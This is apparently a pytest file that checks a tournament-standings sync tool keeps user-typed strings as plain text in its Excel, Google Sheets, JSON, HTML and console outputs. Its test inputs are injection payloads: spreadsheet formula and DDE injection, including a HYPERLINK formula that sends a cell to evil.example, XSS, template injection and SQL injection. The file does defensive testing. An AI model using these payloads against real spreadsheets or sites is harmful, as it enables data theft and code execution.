"""Nothing injected: strings people typed stay visible text in every output.

Nicknames, clubs, comments and tab names full of formula starters, markup and odd
Unicode go through a whole sync on both backends (Excel file, Google fake server); no
formula cell is created (our own HYPERLINK formulas on Google aside, whose text is
checked), standings.json round-trips them exactly, and the site/VK outputs, when their
renderers exist, show them as text.
"""

from __future__ import annotations

import json
import re
import time
import zipfile
from dataclasses import replace
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from bench.generate import generate_patch, player_names
from sheets_sync.backends.base import Link, Patch, TabWrite
from sheets_sync.backends.excel import ExcelBackend
from sheets_sync.backends.memory import MemoryBackend
from sheets_sync.loop.sync import sync_once
from tests.fake_sheets import FakeSheetsServer
from tests.google_support import google_backend


HOSTILE_NAMES = [
    "=1+2",
    "+79161234567",
    "-3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${7*7}",
    "Robert'); DROP TABLE players;--",
    "O'Neil \"the\" Quote",
    "\u202eRTL override",
    "שלום עולם",
    "مرحبا",
    "😀🎲 Эмодзи",
    "&amp; &lt;b&gt;",
    "[b]bold[/b] @all #хэштег",
    "[/i]:fire: [red]",  # a closing tag first and an emoji code: rich markup would fail or change it
    "Д" * 120,
]
HOSTILE_TEXT = HOSTILE_NAMES + ["\t=tab first", "line1\nline2", "ctrl\x01\x07chars", "=" * 3, "'"]
HOSTILE_TAB = "Тур 1 'Стол' 1 😀 שלום"  # quotes, emoji, RTL; 22 characters (Excel allows 31)
FORMULA_STARTS = ("=", "+", "-", "@")


def hostile_patch() -> Patch:
    names = HOSTILE_NAMES + player_names(20 - len(HOSTILE_NAMES), seed=7)
    patch = generate_patch(players=20, rounds=2, names=names, clubs=HOSTILE_TEXT, comments=HOSTILE_TEXT,
                           name="=Кубок <b>«Hostile»</b> 😀")
    writes = []
    for w in patch.writes:
        if w.title == "Тур 1 Стол 1":
            w = replace(w, title=HOSTILE_TAB)
        writes.append(w)
    return replace(patch, writes=tuple(writes))


def google_tabs(patch: Patch) -> dict[str, list[list]]:
    """The patch's tabs as values a person left in Google Sheets (text stays text)."""
    out = {}
    for w in patch.writes:
        rows = []
        for row in w.rows:
            rows.append([float(v) if isinstance(v, Decimal) else (v.text if isinstance(v, Link) else v) for v in row])
        out[w.title] = rows
    return out


def fill_google(server: FakeSheetsServer, patch: Patch) -> str:
    tabs = google_tabs(patch)
    sid = server.create_spreadsheet("Hostile", tabs={t: [] for t in tabs})
    for title, rows in tabs.items():
        if rows:
            server.set_values(sid, title, rows, raw=True)  # typed with a leading apostrophe: text
    return sid


# -- checks --------------------------------------------------------------------------------------
def _visible(s: str) -> str:
    """What a cell can show of ``s`` (illegal control characters are replaced in .xlsx)."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", s)


def check_standings_json(out: Path) -> dict:
    doc = json.loads((out / "standings.json").read_text(encoding="utf-8"))
    blob = json.dumps(doc, ensure_ascii=False)
    for name in HOSTILE_NAMES:
        assert json.dumps(name, ensure_ascii=False) in blob, name
    return doc


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def check_site_and_vk(out: Path) -> None:
    """HTML/VK parts: only when the renderers exist (another engineer is writing them)."""
    try:
        import sheets_sync.render.site  # noqa: F401
    except ImportError:
        site_present = False
    else:
        site_present = True
    pages = list(out.rglob("*.html"))
    if site_present:
        assert pages, "the site renderer exists but the sync wrote no HTML"
    combined = ""
    for page in pages:
        text = page.read_text(encoding="utf-8")
        combined += text
        parser = _Tags()
        parser.feed(text)
        for tag, attrs in parser.tags:
            assert tag not in {"img", "iframe", "object", "embed"} or not any(k.startswith("on") for k, _ in attrs)
            assert not any(k.startswith("on") for k, _ in attrs), (page, tag, attrs)
        assert "<script>alert(1)</script>" not in text and "<img src=x onerror" not in text
        assert "<b>«Hostile»</b>" not in text
    if pages:  # the names are shown somewhere, escaped
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in combined
        assert "&lt;b&gt;«Hostile»&lt;/b&gt;" in combined
    try:
        import sheets_sync.render.vk  # noqa: F401
    except ImportError:
        return
    posts = list(out.rglob("vk*.txt"))
    assert posts, "the VK renderer exists but the sync wrote no post"
    for post in posts:
        text = post.read_text(encoding="utf-8")
        assert "\x01" not in text and "\x07" not in text
    from PIL import Image

    for png in out.rglob("*.png"):
        with Image.open(png) as im:
            im.verify()


def test_site_and_vk_renderers(tmp_path):
    try:
        import sheets_sync.render.site  # noqa: F401
    except ImportError:
        pytest.skip("sheets_sync.render.site does not exist yet (being written); the HTML checks run once it does")
    book = tmp_path / "hostile.xlsx"
    backend = ExcelBackend(book)
    backend.apply(hostile_patch(), base=None)
    sync_once(backend, out_dir=tmp_path / "out")
    check_site_and_vk(tmp_path / "out")


def test_the_console_report_prints_names_as_typed(tmp_path):
    """The terminal report of a sync (rich, with the CLI's console options) shows every nickname
    and the tournament's name as typed: markup and emoji codes in them are text."""
    import io

    from rich.console import Console

    from sheets_sync.cli.common import CONSOLE_OPTIONS
    from sheets_sync.actions.sync import print_report

    book = tmp_path / "hostile.xlsx"
    backend = ExcelBackend(book)
    backend.apply(hostile_patch(), base=None)
    report = sync_once(backend, out_dir=tmp_path / "out")
    out = io.StringIO()
    print_report(report, Console(file=out, width=400, **CONSOLE_OPTIONS), top=20)
    printed = out.getvalue()
    assert "=Кубок <b>«Hostile»</b> 😀" in printed
    shown = [st.stats.player for st in report.outcome.results.overall]
    assert "[/i]:fire: [red]" in shown and "[b]bold[/b] @all #хэштег" in shown
    for name in shown:
        assert name in printed, name


# -- Excel ---------------------------------------------------------------------------------------
def test_excel_outputs_hold_hostile_strings_as_text(tmp_path):
    book = tmp_path / "hostile.xlsx"
    backend = ExcelBackend(book)
    backend.apply(hostile_patch(), base=None)
    report = sync_once(backend, out_dir=tmp_path / "out")
    assert report.written
    assert len(report.outcome.results.counted) == 4, [p.message("en") for p in report.outcome.problems][:5]
    # no formula anywhere in the file: neither an <f> element nor a formula-typed cell
    with zipfile.ZipFile(book) as zf:
        for n in zf.namelist():
            if n.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in zf.read(n) and b"<f " not in zf.read(n), n
    wb = openpyxl.load_workbook(book)
    assert HOSTILE_TAB in wb.sheetnames
    texts: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.add(c.value)
                if c.hyperlink is not None and c.hyperlink.location:
                    # internal links quote the tab name; a quote inside is doubled
                    m = re.fullmatch(r"'((?:[^']|'')*)'!\$?[A-Z]+\$?\d+", c.hyperlink.location)
                    assert m and m.group(1).replace("''", "'") in wb.sheetnames, c.hyperlink.location
    owned_text = {c.value for t in ("Итоги", "Отбор") for row in wb[t].iter_rows() for c in row if isinstance(c.value, str)}
    for name in HOSTILE_NAMES:
        assert name in owned_text, name  # visible, unchanged, on the standings tabs
    for s in HOSTILE_TEXT:
        assert _visible(s) in texts, s  # and the input text survived our save
    check_standings_json(tmp_path / "out")
    check_site_and_vk(tmp_path / "out")


def test_excel_hostile_link_targets(tmp_path):
    """A Link to a tab whose name has quotes becomes a quoted internal hyperlink, never a formula."""
    book = tmp_path / "links.xlsx"
    backend = ExcelBackend(book)
    backend.apply(Patch(writes=(TabWrite(title="It's 'x' y", rows=(("a",),), owned=False),
                                TabWrite(title="Итоги", rows=((Link("=1+2", "It's 'x' y", "A1"),),)))), base=None)
    c = openpyxl.load_workbook(book)["Итоги"]["A1"]
    assert c.value == "=1+2" and c.data_type == "s"
    assert c.hyperlink.location == "'It''s ''x'' y'!A1"


# -- Google --------------------------------------------------------------------------------------
def test_google_outputs_hold_hostile_strings_as_text(tmp_path, fake_server, sa_key):
    sid = fill_google(fake_server, hostile_patch())
    backend = google_backend(fake_server, sa_key, sid)
    report = sync_once(backend, out_dir=tmp_path / "out")
    assert report.written
    assert len(report.outcome.results.counted) == 4
    ours = re.compile(r'=HYPERLINK\("#gid=\d+&range=[A-Z]+\d+";"((?:[^"]|"")*)"\)')
    texts: set[str] = set()
    for tab in fake_server.tabs(sid):
        for a1, cell in fake_server.cells(sid, tab).items():
            if cell.formula is not None:
                m = ours.fullmatch(cell.formula)
                assert m, (tab, a1, cell.formula)  # only our link formula, its text quote-doubled
                texts.add(m.group(1).replace('""', '"'))
            elif isinstance(cell.value, str):
                texts.add(cell.value)
    for name in HOSTILE_NAMES:
        assert name in texts, name
    for s in HOSTILE_TEXT:
        assert s in texts, s
    check_standings_json(tmp_path / "out")
    # and nothing we wrote is read back as anything but the text it was
    again = sync_once(backend, out_dir=None)
    assert not again.patch.writes


# -- odd sizes: clear errors or correct output, never a crash or a hang -------------------------
def test_five_megabyte_cell(tmp_path):
    patch = generate_patch(players=10, rounds=1)
    big = "Я" * (5 * 1024 * 1024)
    writes = tuple(replace(w, rows=w.rows + (("Комментарий", big),)) if w.title == "Тур 1 Стол 1" else w
                   for w in patch.writes)
    memory = MemoryBackend(source="mem")
    memory.apply(Patch(writes=writes), base=None)
    t = time.perf_counter()
    report = sync_once(memory, out_dir=None)
    print(f"a 5 MB cell: sync {time.perf_counter() - t:.1f} s")  # a figure, not a pass/fail line
    assert len(report.outcome.results.counted) == 1
    # a 5 MB nickname: the .xlsx cell keeps at most Excel's 32 767 characters, and no crash
    book = tmp_path / "big.xlsx"
    writes = tuple(replace(w, rows=w.rows + ((big[:40000],),)) if w.title == "Игроки" else w for w in patch.writes)
    backend = ExcelBackend(book)
    backend.apply(Patch(writes=writes), base=None)
    report = sync_once(backend, out_dir=None)
    wb = openpyxl.load_workbook(book)
    assert all(len(c.value) <= 32767 for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, str))


def test_very_long_and_odd_tab_names(tmp_path):
    book = tmp_path / "tabs.xlsx"
    backend = ExcelBackend(book)
    backend.apply(generate_patch(players=10, rounds=1), base=None)
    # Excel refuses tab names over 31 characters or with []:*?/\ — a clear error, nothing written
    from sheets_sync.backends.base import BackendError

    before = book.read_bytes()
    for bad in ("x" * 40, "a/b", "[x]", "Итоги?"):
        with pytest.raises((BackendError, ValueError)):
            backend.apply(Patch(writes=(TabWrite(title=bad, rows=(("x",),)),)), base=backend.read())
        assert book.read_bytes() == before


@pytest.mark.slow
def test_ten_thousand_players(tmp_path):
    names = player_names(10_000, seed=3)
    patch = generate_patch(players=10, rounds=1)
    writes = tuple(replace(w, rows=w.rows + tuple((n, "Клуб", "Город", None, None) for n in names[10:]))
                   if w.title == "Игроки" else w for w in patch.writes)
    book = tmp_path / "10k.xlsx"
    backend = ExcelBackend(book)
    backend.apply(Patch(writes=writes), base=None)
    t = time.perf_counter()
    # the workbook and the pure core only: the site renderer needs minutes at this size
    # (one page per player, a linear player lookup per page, an fsync per file; reported)
    report = sync_once(backend, out_dir=None)
    # how long is a figure, not a pass/fail line (10.6 s on the 2-core machine, 2026-12-01; a
    # player-against-player liveness count once made it 360 s): printed for the run's log
    print(f"10,000 players: sync {time.perf_counter() - t:.1f} s")
    assert len(report.outcome.results.overall) >= 10
    assert report.written
